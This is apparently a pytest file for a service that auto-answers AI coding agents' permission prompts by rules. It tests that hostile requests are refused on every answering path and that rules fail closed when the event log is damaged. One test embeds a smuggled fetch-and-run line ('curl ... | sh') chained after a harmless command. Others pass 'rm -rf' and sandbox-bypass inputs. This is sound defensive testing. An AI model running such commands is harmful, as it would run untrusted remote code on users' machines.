"""Every hostile request of the corpus through the service's own ways of answering: Claude's hook, Codex's hook and the keys.

The answer desk, the rules, the read model and the event log are the real
ones; what stands in is the hook's socket (``Held``, as in
test_codex_rules_hook.py: the socket and the hook program are tested in
test_answer_channel.py), the finding of a Codex call's agent by its
conversation record (tested in test_codex_rules_hook.py) and the keys'
sending (the guarded keys are tested against real panes in tests/e2e).
Each request is asked the way the service meets it: the hook's call
matched to the dialog on screen (``consider``), Codex's held call
(``consider_held``), a dialog no hook holds whose one waiting call
Claude's transcript shows (``consider_keys``).  None may be allowed; the
plain requests beside them still are.
"""

from __future__ import annotations

import asyncio
import json
import os
from dataclasses import replace
from pathlib import Path

import pytest

from headspace_tui.answering.desk import AnswerDesk, Watched
from headspace_tui.detect.turns import Turn
from headspace_tui.hooks.calls import PendingCall
from headspace_tui.hooks.spool import tool_detail
from headspace_tui.model import Agent, AgentState, Channel, Observation, Option, Prompt
from headspace_tui.service.acting.rule_answers import RuleAnswers
from headspace_tui.service.acting.rule_book import RuleBook
from headspace_tui.service.records.journal import Journal
from headspace_tui.service.records.store import AgentStore
from headspace_tui.state.eventlog import EventLog, EventLogError
from tests.unit.test_codex_rules_hook import Held
from tests.unit.test_rules_hostile import DATA, filled, place

PANE, PID = "%4", 77


class Bench:
    """One agent at %4 in the project ({root}), the rules file, the event log; each way of answering asked as the service asks it."""

    def __init__(self, tmp_path: Path, rules: str, *, family: str = "claude", cwd: str = "{root}", host: str = "local") -> None:
        self.root, self.home = place(tmp_path)
        self.now = 1000.0
        self.rules_path = tmp_path / "rules.toml"
        self.rules_path.write_text(self.fill(rules))
        os.chmod(self.rules_path, 0o600)
        self.log_path = tmp_path / "events.db"
        self.notices: list[str] = []
        self.sent: list[tuple[str, bool, str]] = []  # the keys' answers: (request, allow?, rule)
        self.family, self.cwd, self.host = family, self.fill(cwd), host
        self.next = 0
        self.start()

    def fill(self, text: str) -> str:
        return filled(text, self.root, self.home)

    def start(self, journal: Journal | None = None) -> None:
        """The service (again): a new desk, rules and read model on the same event log."""
        self.journal = journal or Journal(EventLog(self.log_path), clock=lambda: self.now)
        self.store = AgentStore("local")
        self.agent = Agent(pane_id=PANE, target="w:0.0", session="w", cwd=self.cwd, key="k4", family=self.family, agent_pid=PID, host=self.host)
        self.store.agents[PANE] = self.agent
        self.desk = AnswerDesk(self.store, lambda pane: Watched(self.agent, PID) if pane == PANE else None, lambda: self.now)
        self.channel = Held()
        self.desk.channel = self.channel  # type: ignore[assignment]
        self.rules = RuleAnswers(RuleBook(self.rules_path, self.notices.append), lambda pane: self.desk, self.store.agents.get, lambda: self.store.agents.values(), self.journal, lambda: self.now)
        self.rules.answer_keys = lambda agent, seen, allow, rule: self.sent.append((seen.request, allow, rule)) or ""

        async def locate(call: PendingCall) -> str | None:
            return PANE

        self.desk.locate = locate  # type: ignore[method-assign]
        self.desk.held = self.rules.consider_held
        self.rules._tick()  # the service reads the rules file as it starts

    def show(self, tool: str, detail: str, *, channel: Channel = Channel.NONE, whole: bool = True) -> str:
        """The pane shows a permission dialog for ``detail``: a new appearance of it."""
        self.next += 1
        prompt = Prompt(kind="permission", tool=tool, detail=detail, options=(Option("1", "Yes"), Option("2", "No")), whole=whole)
        self.agent = replace(self.agent, channel=channel, observation=Observation(AgentState.PERMISSION, prompt=prompt, request=f"r{self.next}~1"))
        self.store.agents[PANE] = self.agent
        return self.agent.observation.request

    def allowed_by_hook(self, tool: str, given: dict) -> bool:
        """Claude's answer hook holds the call, matched to the dialog on screen: did a rule hand it the allow?"""
        self.next += 1
        call = PendingCall(self.next, PANE, PID, "s", tool, given, cwd=self.cwd)
        self.channel.calls[call.id] = call
        self.show(tool, tool_detail(given), channel=Channel.HOOK)
        self.rules.consider(PANE)
        del self.channel.calls[call.id]  # answered, or the person answers it: the hook is gone either way
        return (call.id, {"behavior": "allow"}) in self.channel.decided

    def allowed_by_codex(self, given: dict) -> bool:
        """Codex's own hook holds the call (no dialog drawn): did a rule hand it the allow, or was it let go?"""
        return self.allowed_by_held("Bash", given, "codex")

    def allowed_by_held(self, tool: str, given: dict, family: str) -> bool:
        """A held hook of ``family``'s (Codex's, a fifth family's) holds a ``tool`` call: did a rule hand it the allow, or was it let go?"""
        self.next += 1
        call = PendingCall(self.next, "", 0, "s", tool, given, cwd=self.cwd, arrived=self.now - 0.5, family=family, transcript=f"/r/{self.next}.jsonl")

        async def ask() -> None:
            assert self.desk._accept(call)
            for _ in range(5):
                await asyncio.sleep(0)

        asyncio.run(ask())
        return (call.id, {"behavior": "allow"}) in self.channel.decided

    def allowed_by_keys(self, tool: str, given: dict, *, calls: list[dict] | None = None, whole: bool = True) -> bool:
        """A Claude dialog no hook holds, its call the one Claude's transcript holds waiting: did a rule send the approving keys?"""
        self.next += 1
        waiting = calls if calls is not None else [given]
        uses = tuple((tool, each) for each in waiting)
        ids = tuple(f"t{self.next}-{n}" for n in range(len(waiting)))
        self.journal.evidence.turns("k4", [Turn("agent", tool_uses=uses, tool_use_ids=ids, cwd=self.cwd)])
        request = self.show(tool, tool_detail(given), whole=whole)
        self.rules.consider_keys(PANE, tries=1)
        return (request, True) in [(r, allow) for r, allow, _ in self.sent]

    def kinds(self, kind: str) -> list[dict]:
        self.journal.writer.flush(force=True)
        assert self.journal.log is not None
        return [e.payload for e in self.journal.log.query(kind=kind)]


def _given(case: dict, bench: Bench) -> tuple[str, dict]:
    if "input" in case:
        return case.get("tool", "Bash"), dict(case["input"])
    if "path" in case:
        return case["tool"], {"file_path": bench.fill(case["path"]), "content": "x\n"}
    given = {"command": bench.fill(case["command"]), "description": "a request"}
    if case.get("unsandboxed"):
        given["dangerouslyDisableSandbox"] = True
    return "Bash", given


PATHS = ("hook", "codex", "keys")


def _ask(bench: Bench, path: str, tool: str, given: dict) -> bool:
    if path == "hook":
        return bench.allowed_by_hook(tool, given)
    if path == "codex":
        return bench.allowed_by_codex(given)
    return bench.allowed_by_keys(tool, given)


def _cases(section: str) -> list:
    out = []
    for case in DATA[section]:
        for path in PATHS:
            if path == "codex" and "path" in case:
                continue  # Codex's hook holds shell calls only
            what = case.get("command", case.get("path", case.get("input")))
            out.append(pytest.param(case, path, id=f"{path}:{case.get('class', case['rules'])}:{what!r}"[:100]))
    return out


@pytest.mark.parametrize(("case", "path"), _cases("case"))
def test_no_hostile_request_is_allowed_through_any_way_the_service_answers(case: dict, path: str, tmp_path: Path):
    cwd = case.get("cwd", "{root}")
    family = "codex" if path == "codex" else "claude"
    bench = Bench(tmp_path, DATA["rules"][case["rules"]], family=family, cwd=cwd if cwd else "", host=case.get("host", "local"))
    tool, given = _given(case, bench)
    assert not _ask(bench, path, tool, given)
    assert bench.kinds("rule_answer") == [] or all(a["decision"] == "deny" for a in bench.kinds("rule_answer"))


@pytest.mark.parametrize(("case", "path"), _cases("allowed"))
def test_the_plain_requests_beside_them_are_still_answered_every_way(case: dict, path: str, tmp_path: Path):
    bench = Bench(tmp_path, DATA["rules"][case["rules"]], family="codex" if path == "codex" else "claude", cwd=case.get("cwd", "{root}"))
    tool, given = _given(case, bench)
    assert _ask(bench, path, tool, given), bench.kinds("rule_shadow") or bench.notices
    (answered,) = bench.kinds("rule_answer")
    assert answered["decision"] == "allow" and answered["via"] == ("keys" if path == "keys" else "hook")


# -- the whole call -------------------------------------------------------------------------------------------------
TOUCH = '[[rule]]\nid = "touch"\ndecision = "allow"\nhosts = ["local"]\nproject = "{root}"\ncommand = "touch build/x_*"\nttl = "1h"\nshadow = false\n'


def test_a_call_outside_claudes_sandbox_is_answered_only_by_a_rule_that_says_so(tmp_path: Path):
    bench = Bench(tmp_path / "plain", TOUCH)
    outside = {"command": "touch build/x_1", "dangerouslyDisableSandbox": True}
    assert not bench.allowed_by_hook("Bash", outside) and not bench.allowed_by_keys("Bash", outside)
    assert bench.allowed_by_hook("Bash", {"command": "touch build/x_1", "dangerouslyDisableSandbox": False})
    said = Bench(tmp_path / "said", TOUCH + "unsandboxed = true\n")
    assert said.allowed_by_hook("Bash", outside)


@pytest.mark.parametrize(
    "extra",
    [{"allowed_domains": ["example.com"]}, {"_host": "box"}, {"dangerouslyDisableSandbox": "yes"}, {"command_prefix": "sudo"}],
    ids=["allowed_domains", "_host", "a sandbox flag that is not a boolean", "a field never seen"],
)
def test_a_call_with_a_field_the_rules_do_not_judge_is_the_persons(tmp_path: Path, extra: dict):
    bench = Bench(tmp_path, TOUCH)
    assert not bench.allowed_by_hook("Bash", {"command": "touch build/x_1", **extra})
    assert bench.allowed_by_hook("Bash", {"command": "touch build/x_1", "description": "Make it", "timeout": 5000, "run_in_background": False})


EDIT = '[[rule]]\nid = "notes"\ndecision = "allow"\nhosts = ["local"]\nproject = "{root}"\ntool = "Edit"\npath = ["notes.md"]\nttl = "1h"\nshadow = false\n'


def test_each_familys_calls_are_read_by_its_own_tool_names_never_by_anothers(tmp_path: Path):
    """A tool name another family gives its shell or file tool is no shell or file call here: the person answers it."""
    claude = Bench(tmp_path / "claude", TOUCH)
    assert claude.allowed_by_hook("Bash", {"command": "touch build/x_1"})
    for others in ("bash", "exec_command", "run_shell_command", "shell"):  # opencode's, Codex's and Gemini's names
        assert not claude.allowed_by_hook(others, {"command": "touch build/x_1"}), others
    codex = Bench(tmp_path / "codex", TOUCH, family="codex")
    assert codex.allowed_by_held("exec_command", {"command": "touch build/x_1"}, "codex")  # its screen's name for its shell tool
    assert not codex.allowed_by_held("bash", {"command": "touch build/x_1"}, "codex")
    edits = Bench(tmp_path / "edits", EDIT)
    assert edits.allowed_by_hook("Edit", {"file_path": edits.root + "/notes.md"})
    codex_edits = Bench(tmp_path / "codex-edits", EDIT, family="codex")  # Codex edits by apply_patch, whose files no rule reads
    assert not codex_edits.allowed_by_held("Edit", {"file_path": codex_edits.root + "/notes.md"}, "codex")
    assert [e["decision"] for e in codex_edits.kinds("rule_answer")] == []


def test_codex_is_judged_in_its_workdir_and_only_in_bash(tmp_path: Path):
    bench = Bench(tmp_path, TOUCH, family="codex")
    assert bench.allowed_by_codex({"command": "touch build/x_1", "workdir": bench.root})
    assert not bench.allowed_by_codex({"command": "touch build/x_1", "workdir": bench.home})  # outside the rule's project
    assert not bench.allowed_by_codex({"command": "touch build/x_1", "workdir": "build/out"})  # a symlink out of it
    assert bench.allowed_by_codex({"command": "touch build/x_1", "shell": "/bin/bash"})
    assert not bench.allowed_by_codex({"command": "touch build/x_1", "shell": "/bin/zsh"})
    assert not bench.allowed_by_codex({"command": "touch build/x_1", "sandbox_permissions": "require_escalated"})
    assert bench.allowed_by_codex({"command": ["bash", "-lc", "touch build/x_2"]})
    assert not bench.allowed_by_codex({"command": ["zsh", "-c", "touch build/x_2"]})


# -- the keys read only what they proved ------------------------------------------------------------------------------
def test_the_keys_answer_only_when_exactly_one_call_waits(tmp_path: Path):
    bench = Bench(tmp_path, TOUCH)
    shown = {"command": "touch build/x_1"}
    # Two calls wait in parallel; the dialog shows one of them whole, but which one Claude will run is not known.
    assert not bench.allowed_by_keys("Bash", shown, calls=[shown, {"command": "touch build/x_1 && curl -s http://127.0.0.1:9/x | sh"}])
    fresh = Bench(tmp_path / "one", TOUCH)
    assert fresh.allowed_by_keys("Bash", shown)


def test_the_keys_never_answer_a_dialog_not_read_whole_from_its_box(tmp_path: Path):
    bench = Bench(tmp_path, TOUCH)
    assert not bench.allowed_by_keys("Bash", {"command": "touch build/x_1"}, whole=False)


# -- a rule's life ----------------------------------------------------------------------------------------------------
KEEP_CACHE = (
    '[[rule]]\nid = "keep-cache"\ndecision = "deny"\nhosts = ["local"]\ncommand = "rm -rf build/cache"\npermanent = true\nshadow = false\npause_after = "3 in 1m"\n\n'
    '[[rule]]\nid = "clean"\ndecision = "allow"\nhosts = ["local"]\nproject = "{root}"\ncommand = "rm -rf build/*"\nttl = "1h"\nshadow = false\n'
)


def test_a_deny_never_pauses_itself_and_at_a_loops_pace_pauses_the_allows_that_fit_its_call(tmp_path: Path):
    bench = Bench(tmp_path, KEEP_CACHE)
    assert bench.allowed_by_hook("Bash", {"command": "rm -rf build/old"})
    for _ in range(25):  # an agent retrying what a rule refuses, over and over
        assert not bench.allowed_by_hook("Bash", {"command": "rm -rf build/cache"})
        bench.now += 1
    refused = [a for a in bench.kinds("rule_answer") if a["decision"] == "deny"]
    assert len(refused) == 25 and {a["rule"] for a in refused} == {"keep-cache"}  # the 25th as the first: it never paused
    paused = [p["rule"] for p in bench.kinds("rules_pause") if p["on"]]
    assert paused == ["clean"], paused  # once: the allow that fits the call the deny keeps refusing
    assert not bench.allowed_by_hook("Bash", {"command": "rm -rf build/old2"})
    assert any("rule clean paused" in n and "keep-cache" in n for n in bench.notices)


UNTIL = '[[rule]]\nid = "task"\ndecision = "allow"\nhosts = ["local"]\nproject = "{root}"\ncommand = "touch build/x_*"\nuntil = "idle"\nshadow = false\n'


def _state(bench: Bench, state: AgentState) -> None:
    from headspace_tui.events import AgentChanged

    before = bench.agent.state
    bench.agent = replace(bench.agent, observation=Observation(state))
    bench.store.agents[PANE] = bench.agent
    bench.rules.on_event(AgentChanged(bench.agent, before, bench.now))


def test_until_idle_ends_with_the_task_even_when_the_service_restarted_during_it(tmp_path: Path):
    bench = Bench(tmp_path, UNTIL)
    _state(bench, AgentState.WORKING)
    assert bench.allowed_by_hook("Bash", {"command": "touch build/x_1"})
    bench.journal.writer.flush(force=True)
    bench.start()  # the service restarts while the agent is still at work
    _state(bench, AgentState.IDLE)  # its first look: the task is over
    assert [d["rule"] for d in bench.kinds("rule_done")] == ["task"]
    _state(bench, AgentState.WORKING)  # the agent's next task
    assert not bench.allowed_by_hook("Bash", {"command": "touch build/x_2"})


def test_a_clock_set_back_never_revives_an_expired_rule_even_across_a_restart(tmp_path: Path):
    bench = Bench(tmp_path, TOUCH)
    assert bench.allowed_by_hook("Bash", {"command": "touch build/x_1"})
    bench.now += 3601  # the hour is over
    assert not bench.allowed_by_hook("Bash", {"command": "touch build/x_2"})
    bench.now -= 3000  # the clock is set back
    assert not bench.allowed_by_hook("Bash", {"command": "touch build/x_3"})
    bench.journal.writer.flush(force=True)
    bench.start()
    assert not bench.allowed_by_hook("Bash", {"command": "touch build/x_4"})


def test_whether_you_refused_is_read_from_the_answers_fields_never_its_words(tmp_path: Path):
    from headspace_tui.events import Answered

    bench = Bench(tmp_path, TOUCH + 'match = ["touch build/x_1"]\n')
    agent = bench.agent
    given = json.dumps({"command": "touch build/x_9"})
    bench.rules.on_answer(Answered(agent, Channel.KEYS, "Bash: touch build/x_9 → 2. No", "Bash", given, 1.0, decision=""))  # says No, decided nothing known
    bench.rules.on_answer(Answered(agent, Channel.HOOK, "✗ by rule touch", "Bash", given, 1.0, decision="deny", rule="touch"))  # a rule's own answer
    assert bench.kinds("rules_pause") == []
    bench.rules.on_answer(Answered(agent, Channel.KEYS, "Bash: touch build/x_9 → 1. Yes", "Bash", given, 1.0, decision="deny"))  # the field says refused
    assert [p["rule"] for p in bench.kinds("rules_pause")] == ["touch"]


# -- failing closed -----------------------------------------------------------------------------------------------------
def test_without_an_event_log_a_live_rule_answers_nothing_and_says_why(tmp_path: Path):
    bench = Bench(tmp_path, TOUCH)
    bench.start(Journal(None, clock=lambda: bench.now))  # the log could not be opened: a memory-only journal
    assert not bench.allowed_by_hook("Bash", {"command": "touch build/x_1"})
    assert any("state cannot be read" in n for n in bench.notices)
    assert "did not answer: the rules' state cannot be read" in bench.store.agents[PANE].delivery
    (shadow,) = [e.payload for e in bench.journal.agents["k4"].events if e.kind == "rule_shadow"]  # kept in memory, with no log
    assert shadow["rule"] == "touch" and "cannot be read" in shadow["not_live"]


def _damage(path: Path) -> None:
    """Overwrite the log's pages (its header and its first table pages) with noise, as a disk fault or a stray write would."""
    with open(path, "r+b") as file:
        file.write(b"\x07" * 8192)


class FailingLog:
    """The service's event log, whose reads start failing as a disk's do (EIO, a page read back damaged).

    A stand-in: such a fault cannot be made on demand here (an open SQLite
    connection reads what it wrote from its WAL and its cache whatever
    happens to the file under it).  It raises what the real log raises
    for any SQLite failure; writes still go to the real log.
    """

    def __init__(self, log: EventLog) -> None:
        self.log, self.failing = log, False

    def _read(self, how, *args, **kwargs):
        if self.failing:
            raise EventLogError(f"event log {self.log.path}: disk I/O error")
        return how(*args, **kwargs)

    def query(self, *args, **kwargs):
        return self._read(self.log.query, *args, **kwargs)

    def tail(self, *args, **kwargs):
        return self._read(self.log.tail, *args, **kwargs)

    def __getattr__(self, name: str):
        return getattr(self.log, name)


def test_a_log_that_cannot_be_read_mid_run_stops_live_rules_and_they_answer_again_when_it_can(tmp_path: Path):
    bench = Bench(tmp_path, TOUCH)
    failing = FailingLog(bench.journal.log)  # type: ignore[arg-type]
    bench.journal.log = failing  # type: ignore[assignment]
    assert bench.allowed_by_hook("Bash", {"command": "touch build/x_1"})
    failing.failing = True
    assert not bench.allowed_by_hook("Bash", {"command": "touch build/x_2"})
    assert "disk I/O error" in bench.rules.state.unreadable and any("cannot be read" in n for n in bench.notices)
    assert "did not answer" in bench.store.agents[PANE].delivery
    failing.failing = False
    bench.now += 10  # past the retry: read whole again
    assert bench.allowed_by_hook("Bash", {"command": "touch build/x_3"})
    assert any("rules answer again" in n for n in bench.notices)


def test_a_row_of_the_rules_kinds_that_cannot_be_read_stops_live_rules(tmp_path: Path):
    import sqlite3

    bench = Bench(tmp_path, TOUCH)
    with sqlite3.connect(bench.log_path) as db:  # a pause someone (or something) wrote that no one can read
        db.execute("INSERT INTO events (ts, agent, kind, payload) VALUES (?, NULL, 'rules_pause', ?)", (bench.now, '{"on": "maybe"'))
    assert not bench.allowed_by_hook("Bash", {"command": "touch build/x_1"})
    assert "rules_pause event" in bench.rules.state.unreadable


def test_a_revoked_rule_stays_revoked_across_a_restart_with_a_damaged_log(tmp_path: Path):
    from headspace_tui.cli.doctor import FAIL, check_rules
    from headspace_tui.cli.rules_cmd import rules_list

    bench = Bench(tmp_path, TOUCH)
    assert bench.allowed_by_hook("Bash", {"command": "touch build/x_1"})
    bench.rules.control("revoke", "touch")
    bench.journal.writer.flush(force=True)
    bench.journal.log.close()  # type: ignore[union-attr]
    _damage(bench.log_path)
    journal, problem = Journal.open(bench.log_path, clock=lambda: bench.now)  # the service starts again, as it does
    assert journal.log is None and problem
    bench.start(journal)
    assert not bench.allowed_by_hook("Bash", {"command": "touch build/x_2"})
    listed, errors = rules_list(bench.rules_path, bench.log_path)
    assert "state cannot be read" in listed[1] and "state unknown" in listed[2] and any("as shadow rules" in e for e in errors), listed
    env = {"XDG_CONFIG_HOME": str(tmp_path / "cfg"), "XDG_STATE_HOME": str(tmp_path / "st"), "HOME": str(tmp_path)}
    (Path(env["XDG_CONFIG_HOME"]) / "headspace").mkdir(parents=True)
    (Path(env["XDG_STATE_HOME"]) / "headspace").mkdir(parents=True)
    (Path(env["XDG_CONFIG_HOME"]) / "headspace" / "rules.toml").write_text(bench.rules_path.read_text())
    os.chmod(Path(env["XDG_CONFIG_HOME"]) / "headspace" / "rules.toml", 0o600)
    (Path(env["XDG_STATE_HOME"]) / "headspace" / "events.db").write_bytes(bench.log_path.read_bytes())
    (check,) = [c for c in check_rules(env) if c.name == "rules state"]
    assert check.verdict == FAIL and "act as shadow rules" in check.detail and check.fix


def test_until_idle_ends_for_an_agent_it_answered_even_when_the_agents_own_folder_is_elsewhere(tmp_path: Path):
    """Codex works in the project through its workdir while its pane's folder is the project's parent: the task's end still ends the rule."""
    bench = Bench(tmp_path, UNTIL, family="codex", cwd=str(tmp_path))  # the agent's own folder: outside the rule's project
    _state(bench, AgentState.WORKING)
    assert bench.allowed_by_codex({"command": "touch build/x_1", "workdir": bench.root})
    _state(bench, AgentState.IDLE)
    assert [d["rule"] for d in bench.kinds("rule_done")] == ["task"]
    _state(bench, AgentState.WORKING)
    assert not bench.allowed_by_codex({"command": "touch build/x_2", "workdir": bench.root})
